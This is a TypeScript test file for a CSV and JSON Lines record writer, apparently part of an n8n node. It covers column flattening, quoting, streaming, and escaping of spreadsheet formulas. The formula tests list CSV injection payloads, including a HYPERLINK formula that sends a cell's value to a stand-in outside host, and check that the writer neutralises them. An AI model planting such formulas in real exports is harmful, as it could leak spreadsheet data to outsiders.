import fc from 'fast-check';
import type { IDataObject } from 'n8n-workflow';
import Papa from 'papaparse';
import { writeRecords, type RecordFileOptions } from '../../../nodes/kit/files/recordFile';
import { collect } from '../dummy';

const csv: RecordFileOptions = { format: 'csv', columns: [], escapeFormulas: false };

async function* each(pages: IDataObject[][]): AsyncGenerator<IDataObject[]> {
	for (const page of pages) yield page;
}

async function write(pages: IDataObject[][], options: Partial<RecordFileOptions> = {}) {
	return (await collect(writeRecords(each(pages), { ...csv, ...options }))).join('');
}

/** The rows by column, as read by another CSV parser. */
function read(text: string): Array<Record<string, string>> {
	const { data, errors } = Papa.parse<Record<string, string>>(text, {
		header: true,
		delimiter: ',',
		skipEmptyLines: 'greedy',
	});
	expect(errors).toEqual([]);
	return data;
}

const NASTY = [
	'a,b',
	'"',
	'""',
	'a\r\nb',
	'\n',
	'\r',
	' lead',
	'trail ',
	'\ufeffBOM',
	"=1+1'",
	'ü 😀 漢',
	'\t;|',
	'\\',
	'\u2028',
];

describe('CSV', () => {
	it('has no column for an object that other columns flatten, or for empty values in it', async () => {
		const pages = [
			[
				{ a: { b: { c: 1 } }, d: 2 },
				{ a: null, d: 3 },
				{ a: { b: null }, d: 4 },
			],
		];
		expect(await write(pages)).toBe('a.b.c,d,other\r\n1,2,\r\n,3,\r\n,4,\r\n');
		expect(await write(pages, { columns: ['d', '.x'] })).toBe(
			'd,.x,a.b.c,other\r\n2,,1,\r\n3,,,\r\n4,,,\r\n',
		);
	});

	it('returns every value, whatever it contains', async () => {
		const value = fc.oneof(
			fc.constantFrom(...NASTY),
			fc.string({ unit: 'grapheme', minLength: 1 }),
		);
		const record = fc.record({ id: fc.uuid(), 'a,"b\r\n': value, text: value });
		await fc.assert(
			fc.asyncProperty(
				fc.array(fc.array(record, { minLength: 1 }), { minLength: 1 }),
				async (pages) => {
					const rows = read(await write(pages));
					expect(rows).toEqual(pages.flat().map((row) => ({ ...row, other: '' })));
				},
			),
		);
	});

	it('ends every line with CR LF and writes no byte order mark', async () => {
		const text = await write([[{ a: '1', b: 'x\ny' }], [{ a: '2' }]]);
		expect(text).toBe('a,b,other\r\n1,"x\ny",\r\n2,,\r\n');
	});

	it('begins with the known columns, then those of the first page', async () => {
		const text = await write(
			[
				[
					{ z: 1, b: 2 },
					{ y: 3, a: { c: 4 } },
				],
			],
			{ columns: ['a.c', 'b'] },
		);
		expect(text.split('\r\n')[0]).toBe('a.c,b,z,y,other');
	});

	it('puts what turns up later into the column `other`, as JSON', async () => {
		const [, , third, fourth] = (
			await write([[{ a: 1 }], [{ a: 2, late: 'x', deep: { b: [1] }, none: null }, { a: 3 }]])
		).split('\r\n');
		const [row] = read(`a,other\r\n${third}\r\n`);
		expect(row?.a).toBe('2');
		expect(JSON.parse(row?.other ?? '')).toEqual({ late: 'x', 'deep.b': '[1]' });
		expect(fourth).toBe('3,');
	});

	it('loses no value of any later page', async () => {
		const record = fc.dictionary(fc.constantFrom('a', 'b', 'c', 'd', 'other'), fc.uuid(), {
			minKeys: 1,
		});
		await fc.assert(
			fc.asyncProperty(fc.array(fc.array(record), { minLength: 1 }), async (pages) => {
				const rows = read(await write(pages));
				pages.flat().forEach((written, index) => {
					const { other = '', ...columns } = rows[index] ?? {};
					const rest = (other === '' ? {} : JSON.parse(other)) as Record<string, string>;
					const filled = Object.entries(columns).filter(([, value]) => value !== '');
					expect({ ...Object.fromEntries(filled), ...rest }).toEqual(written);
				});
			}),
		);
	});

	it('takes the columns from the first page that has records', async () => {
		expect(await write([[], [], [{ a: 1 }], []])).toBe('a,other\r\n1,\r\n');
	});

	it('has one column `other`, also if records have a field of that name', async () => {
		const text = await write([[{ a: 1, other: 'mine' }]]);
		expect(read(text)).toEqual([{ a: '1', other: '{"other":"mine"}' }]);
		expect(text.split('\r\n')[0]).toBe('a,other');
	});

	it('of no records has the header of the known columns', async () => {
		expect(await write([], { columns: ['id', 'a'] })).toBe('id,a,other\r\n');
		expect(await write([[]], { columns: ['id'] })).toBe('id,other\r\n');
	});

	it('quotes formulas only on request', async () => {
		const page = [{ phone: '+39 02', sum: '=1+1', plain: 'a-b' }];
		expect(await write([page])).toBe('phone,sum,plain,other\r\n+39 02,=1+1,a-b,\r\n');
		const escaped = await write([page], { escapeFormulas: true });
		expect(escaped).toBe('phone,sum,plain,other\r\n"\'+39 02","\'=1+1",a-b,\r\n');
	});

	it.each([
		'=1+1',
		'+1',
		'-1',
		'@SUM(A1)',
		'\t=1+1',
		'\r=1+1',
		'\n=1+1',
		'=1+1\nin two lines',
		' =1+1',
		'\u00a0@A1',
		'＝1+1',
		'＋1',
		'－1',
		'＠A1',
		'=HYPERLINK("http://elsewhere.example?a="&A1,"a")',
	])('quotes the formula %j, in a value and in a name', async (formula) => {
		const [row] = read(await write([[{ [formula]: formula }]], { escapeFormulas: true }));
		expect(row).toEqual({ [`'${formula}`]: `'${formula}`, other: '' });
	});

	it.each(['a=1', '', '1+1', 'ann@example.com', "'=1", ' a'])(
		"doesn't change %j",
		async (value) => {
			const [row] = read(await write([[{ id: '1', value }]], { escapeFormulas: true }));
			expect(row).toEqual({ id: '1', value, other: '' });
		},
	);
});

describe('JSON Lines', () => {
	it('has one line for each record, nested as it came', async () => {
		const record = fc.dictionary(fc.string(), fc.jsonValue()) as fc.Arbitrary<IDataObject>;
		await fc.assert(
			fc.asyncProperty(fc.array(fc.array(record)), async (pages) => {
				const lines = (await write(pages, { format: 'jsonl' })).split('\n');
				expect(lines.pop()).toBe('');
				const expected = JSON.parse(JSON.stringify(pages.flat())) as unknown;
				expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(expected);
			}),
		);
	});
});

it.each(['csv', 'jsonl'] as const)(
	'%s is written a piece per page, one page at a time',
	async (format) => {
		const asked: number[] = [];
		async function* pages(): AsyncGenerator<IDataObject[]> {
			for (let page = 0; page < 3; page++) {
				asked.push(page);
				yield [{ page }];
			}
		}
		const pieces = writeRecords(pages(), { ...csv, format });
		await pieces.next();
		expect(asked).toEqual([0]);
	},
);
